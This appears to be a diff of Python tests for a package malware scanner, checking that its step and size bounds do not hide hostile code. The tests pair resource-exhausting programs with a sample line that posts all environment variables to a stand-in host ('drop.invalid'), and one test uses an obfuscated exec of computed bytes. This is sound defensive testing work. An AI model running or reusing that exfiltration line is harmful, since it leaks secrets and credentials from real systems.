@@ -72,12 +72,11 @@ def test_a_file_past_the_bound_is_said_to_be_seen_in_part() -> None:
     assert [one for one in analysis.coverage if one.status == "not-checked"]
 
 
-def test_steps_run_out_with_coverage() -> None:
+def test_steps_that_run_out_cost_the_value_and_its_execution_is_said() -> None:
     analysis = analysed(
         PAYLOAD + "x = [i ^ 3 for i in range(60000)]\nexec(bytes(x))\n", max_steps=2000, max_import_steps=2000
     )
-    assert any("evaluation steps" in one.reason for one in analysis.coverage)
-    assert "shell-download-and-run" in {one.rule for one in analysis.findings}
+    assert {"shell-download-and-run", "code-beyond-bounds-executed"} <= {one.rule for one in analysis.findings}
 
 
 @pytest.mark.parametrize(
@@ -167,3 +166,57 @@ def test_a_name_imported_many_times_on_one_line_ends_soon() -> None:
     started = time.process_time()
     analyse([SourceFile("package/__init__.py", program.encode())], kind="wheel", package=PackageRef("example", "1.0"))
     assert time.process_time() - started < 10
+
+
+STEALER = "\nimport os, requests\nrequests.post('https://drop.invalid/x', data=str(dict(os.environ)))\n"
+BEFORE = {
+    "nested loops under an untaken branch": "if 0:\n"
+    + "".join(" " * (depth + 1) + f"for a{depth} in range(100):\n" for depth in range(15))
+    + " " * 16
+    + "x = 1\n",
+    "a string built by a long loop": "s = ''\nfor i in range(60000):\n    s += chr(i % 100 + 20)\n",
+    "a long comprehension": "x = [i * i for i in range(160000)]\n",
+    "a long set of a long generator": "x = {i % 7 for i in (j * j for j in range(10 ** 9))}\n",
+    "functions that double each other": "def f0(x):\n    return x + 1\n"
+    + "".join(f"def f{n}(x):\n    return f{n - 1}(x) + f{n - 1}(x)\n" for n in range(1, 60))
+    + "f59(1)\n",
+    "a loop without end": "while True:\n    x = 1\n    if x > 2:\n        break\n",
+    "recursion without end": "def f(n):\n    return f(n + 1)\nf(0)\n",
+    "very many statements": "".join(f"x{n} = {n} + {n}\n" for n in range(40_000)),
+    "a class body that computes": "class A:\n    for i in range(10 ** 8):\n        x = i * i\n",
+    "a large product of strings": "x = 'ab' * 10 ** 9\ny = [x] * 10 ** 9\n",
+    "lambdas in lambdas": "f = lambda x: x\n"
+    + "".join(f"f{n} = lambda x, g=f: g(g(x))\nf = f{n}\n" for n in range(40))
+    + "f(1)\n",
+    "a generator that is joined": "x = ''.join(chr(i % 60 + 60) for i in range(10 ** 7))\n",
+    "branches within branches": "".join(f"if q{n}:\n    x = {n}\nelse:\n    x = -{n}\n" for n in range(2000)),
+}
+
+
+@pytest.mark.parametrize("before", BEFORE.values(), ids=BEFORE.keys())
+@pytest.mark.parametrize("larger", [False, True], ids=["alone", "in a library"])
+def test_a_bound_costs_the_value_and_not_what_follows(before: str, larger: bool) -> None:
+    files = [SourceFile("package/__init__.py", (before + STEALER).encode())]
+    if larger:
+        files += [SourceFile(f"package/part_{number}.py", b"value = 1\n" * 2500) for number in range(12)]
+    started = time.process_time()
+    analysis = analyse(files, kind="wheel", package=PackageRef("example", "1.0"))
+    assert time.process_time() - started < 20
+    assert "environment-sent" in {one.rule for one in analysis.findings}
+
+
+UNREAD = {
+    "syntax of a newer Python": "".join(f'x{n} = f\'{{"a" + f"{{"b"}}"}}\'\n' for n in range(200)),
+    "a file that is larger than the bound": "# " + "x\n# " * 2_500_000,
+}
+
+
+@pytest.mark.parametrize("before", UNREAD.values(), ids=UNREAD.keys())
+def test_what_was_not_read_is_never_clean(before: str) -> None:
+    analysis = analyse(
+        [SourceFile("package/__init__.py", (before + STEALER).encode())],
+        kind="wheel",
+        package=PackageRef("example", "1.0"),
+    )
+    assert analysis.verdict != "clean"
+    assert analysis.coverage or analysis.findings
